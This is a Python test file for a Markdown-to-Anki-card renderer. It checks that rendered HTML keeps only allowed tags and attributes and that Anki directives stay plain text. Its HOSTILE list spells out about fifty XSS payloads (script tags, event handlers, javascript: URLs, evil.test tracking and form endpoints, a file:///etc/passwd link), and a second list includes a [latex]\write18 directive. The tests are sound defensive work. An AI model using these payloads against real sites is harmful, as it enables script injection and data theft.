from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from verideck.cards import Location, Media
from verideck.rendering import markup
from verideck.rendering.context import Context, Picture

# The ways in that lists of cross-site scripting collect, each with what must not come out.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/track.png alt=a>",
    "<img src=//evil.test/track.png alt=a>",
    "![a](https://evil.test/track.png)",
    "![a](//evil.test/track.png)",
    "![a](data:text/html;base64,PHNjcmlwdD4=)",
    '<img srcset="https://evil.test/x.png 2x" src="a">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.test></object>",
    "<embed src=https://evil.test>",
    "<video src=https://evil.test autoplay></video>",
    "<audio src=https://evil.test autoplay></audio>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import url(https://evil.test/x.css);</style>",
    "<p style='background:url(https://evil.test/x)'>a</p>",
    "<div style='position:fixed;inset:0'>a</div>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><input name=a><button>b</button></form>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "<a href=https://ok.test onclick=alert(1) target=_top>a</a>",
    "<details ontoggle=alert(1) open>a</details>",
    "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<p id=qa class=badge>recomputed</p>",
    '<span class="badge verified">recomputed</span>',
    "<textarea></p><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$<script>alert(1)</script>$",
    '![" onerror="alert(1)](a.png)',
    '[a](https://ok.test "\\" onclick=\\"alert(1)")',
]
ALLOWED = {
    "a": {"href", "rel", "title"},
    "img": {"src", "alt"},
    "span": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "pre": {"class", "tabindex", "role", "aria-label"},
    "p": {"class"},
}
TEXT_TAGS = {"a", "b", "br", "code", "del", "em", "img", "span", "strong", "u"}
BLOCK_TAGS = {"blockquote", "details", "div", "li", "ol", "p", "pre", "ul"}
TAGS = TEXT_TAGS | BLOCK_TAGS | {"table", "tbody", "td", "th", "thead", "tr"}
OWN_CLASSES = {"tex2jax_ignore", "code", "maths", "wide", "output", "label", "c", "k", "s", "m", "nb", "nf"}


class Strict(HTMLParser):
    """Fail on every tag and attribute that rendering does not write itself."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED.get(tag, set()), (tag, name)
            text = value or ""
            if name == "href":
                assert text.startswith(("https://ok.test",)), text
            if name == "src":
                assert re.fullmatch(r"[a-z0-9.-]+", text), text
            if name == "class":
                assert set(text.split()) <= OWN_CLASSES, text


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_out(text: str, context: Context) -> None:
    for shown in (
        markup.html(text, context),
        markup.inline(text, context),
        markup.html(text, context, cloze=True),
        markup.html(f"> {text}", context),
    ):
        Strict().feed(shown)


@pytest.mark.parametrize(
    "text",
    [
        "[sound:x.mp3]",
        "[latex]\\write18{x}[/latex]",
        "[$]x[/$]",
        "[$$]x[/$$]",
        "[anki:tts lang=en_US]x[/anki:tts]",
        "[anki:play:q:0]",
        "[[type:Typed]]",
        "[SOUND:x.mp3]",
        "&#91;sound:x.mp3]",
        "{{c1::x}}",
        "{{{{c1::x}}",
        "{{type:Typed}}",
        "{{FrontSide}}",
    ],
)
@pytest.mark.parametrize(
    "frame", ["{}", "`{}`", "```\n{}\n```", "<b>{}</b>", "$a {} b$", "![{}](a.png)", "**a**{}"]
)
def test_what_anki_would_run_stays_text(text: str, frame: str, context: Context) -> None:
    images = {"a.png": Media("verideck-1.png", b"")}
    shown = markup.html(frame.format(text), Context(context.location, context.labels, images))
    acting = r"\[(sound:|/?latex\]|/?\$\$?\]|/?anki:|\[?type:)|\{\{"
    assert not re.search(acting, shown, re.IGNORECASE), shown
    # Nor does it come together where a client drops the tags.
    assert not re.search(acting, re.sub(r"<[^!>][^>]*>", "", shown), re.IGNORECASE)


def test_mathjax_delimiters_in_text_do_not_act(context: Context) -> None:
    shown = markup.html("a \\\\(b\\\\) and `\\(c\\)` and <b>\\</b>[", context)
    assert "\\(" not in shown
    assert "\\)" not in shown
    assert '<span class="tex2jax_ignore">&#92;</span>(b' in shown
    assert "<code>&#92;(c&#92;)</code>" in shown


def test_maths_becomes_mathjax(context: Context) -> None:
    assert markup.html("so $a<b$", context) == r"<p>so \(a&lt;b\)</p>"
    assert markup.html("$$x$$", context) == r'<p><span class="maths">\[x\]</span></p>'
    fence = markup.html("```math\na &= b \\\\\nc &= d\n```", context)
    assert fence == '<div class="maths">\\[a &amp;= b \\\\\nc &amp;= d\\]</div>'


def test_code_is_highlighted_by_classes_and_keeps_its_text(context: Context) -> None:
    code = 'import torch  # "hi" & bye\nx = f(1.5, "<b>")\n\nwhile True:\n\tpass'
    shown = markup.html(f"```python run\n{code}\n```", context)
    assert '<span class="k">import</span>' in shown
    assert '<span class="c"># "hi" &amp; bye</span>' in shown
    assert "style=" not in shown
    text = re.sub(r"<[^>]*>", "", shown)
    assert text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == code


def test_what_looks_like_a_cloze_in_code_stays_code(context: Context) -> None:
    shown = markup.html("```python\nx = '{{c1::y}}'\n```\n\n`{{c2::z}}` {{c3::w}}", context, cloze=True)
    assert re.findall(r"\{\{c\d", shown) == ["{{c3"]
    assert """<span class="s">'{<!-- -->{c1::y}}'</span>""" in shown


def test_long_code_is_plain(context: Context) -> None:
    assert "<span" not in markup.html(f"```python\n{'if x:  # y' * 2001}\n```", context)


def test_an_unknown_language_is_plain_code(context: Context) -> None:
    shown = markup.html("```nonsense\nif x:\n```", context)
    assert shown == '<pre class="code" tabindex="0" role="group" aria-label="Code"><code>if x:</code></pre>'


def test_fences_with_a_meaning(context: Context) -> None:
    picture = Picture("verideck-1.svg", 'Even "rows"', 10, 20)
    context = Context(context.location, context.labels, pictures={"causal": picture})
    shown = markup.html("```text output\n1\n```", context)
    assert shown.startswith('<div class="output"><p class="label">Output</p><pre')
    image = '<img class="heatmap" src="verideck-1.svg" alt="Even &quot;rows&quot;" width="10" height="20">'
    assert markup.html("```python heatmap causal\nweights = 1\n```", context) == image
    assert image in markup.html("![](heatmap:causal)", context)
    assert 'alt="my words"' in markup.html("![my words](heatmap:causal)", context)


def test_images_get_their_media_names(context: Context) -> None:
    media = Media("verideck-abc.png", b"x")
    context = Context(context.location, context.labels, {"my pictures/a b.png": media})
    shown = markup.html('![A & "b"](<my pictures/a b.png>)', context)
    assert shown == '<p><img src="verideck-abc.png" alt="A &amp; &quot;b&quot;"></p>'
    assert context.media == {"verideck-abc.png": media}
    assert not context.problems


def test_an_image_that_nobody_listed_is_a_problem_and_a_listed_one_is_not(context: Context) -> None:
    markup.html("![a](gone.png)", context)
    (problem,) = context.problems
    assert "gone.png" in problem.message
    listed = Context(context.location, context.labels, places={"gone.png": Location("a.md")})
    assert markup.html("![a](gone.png)", listed) == "<p><em>a</em></p>"
    assert not listed.problems


def test_links_leave_no_window_behind_and_relative_ones_lead_nowhere(context: Context) -> None:
    shown = markup.html("[a](https://ok.test) [b](other.md)", context)
    assert '<a href="https://ok.test" rel="noopener noreferrer">a</a>' in shown
    assert "other.md" not in shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("1. first", "1. first"),
        ("- x", "- x"),
        ("> x", "&gt; x"),
        ("# x", "# x"),
        ("a #", "a #"),
        ("`a`\nb", "<code>a</code> b"),
        ("", ""),
        ("a | b\n- | -", "a | b - | -"),
        ("<p>a</p>", "<p>a</p>"),
        ("</h2>x", "x"),
    ],
)
def test_one_line_stays_one_line(text: str, shown: str, context: Context) -> None:
    assert markup.inline(text, context) == shown


@pytest.mark.parametrize(
    ("text", "typed"),
    [
        ("`(2, 5, 64)`", "(2, 5, 64)"),
        ("**0.25**", "0.25"),
        ("$x_2 < y$", "x_2 < y"),
        ("a &lt; b", "a < b"),
        ("  x  ", "x"),
        ("1. x", "1. x"),
    ],
)
def test_plain_text_is_what_a_person_types(text: str, typed: str) -> None:
    assert markup.plain(text) == typed


def test_notes_and_task_lists_and_tables(context: Context) -> None:
    shown = markup.html("> [!NOTE]\n> hi\n\n- [x] a\n- [ ] b\n\n|a|\n|-|\n|`1`|", context)
    assert '<div class="note note">\n<p class="label">Note</p>' in shown
    assert "<li>☑ a</li>\n<li>☐ b</li>" in shown
    assert '<div class="wide" tabindex="0" role="group" aria-label="Table"><table>' in shown
    assert "</table></div>" in shown


def test_text_comes_out_in_anki_s_normal_form(context: Context) -> None:
    shown = markup.html("e\u0301 **\u0338a** x\x1fy\r\nz", context)
    assert "é" in shown
    assert "\x1f" not in shown
    assert "\r" not in shown
    assert "<strong>&#824;a</strong>" in shown  # `>` and a solidus would become one character
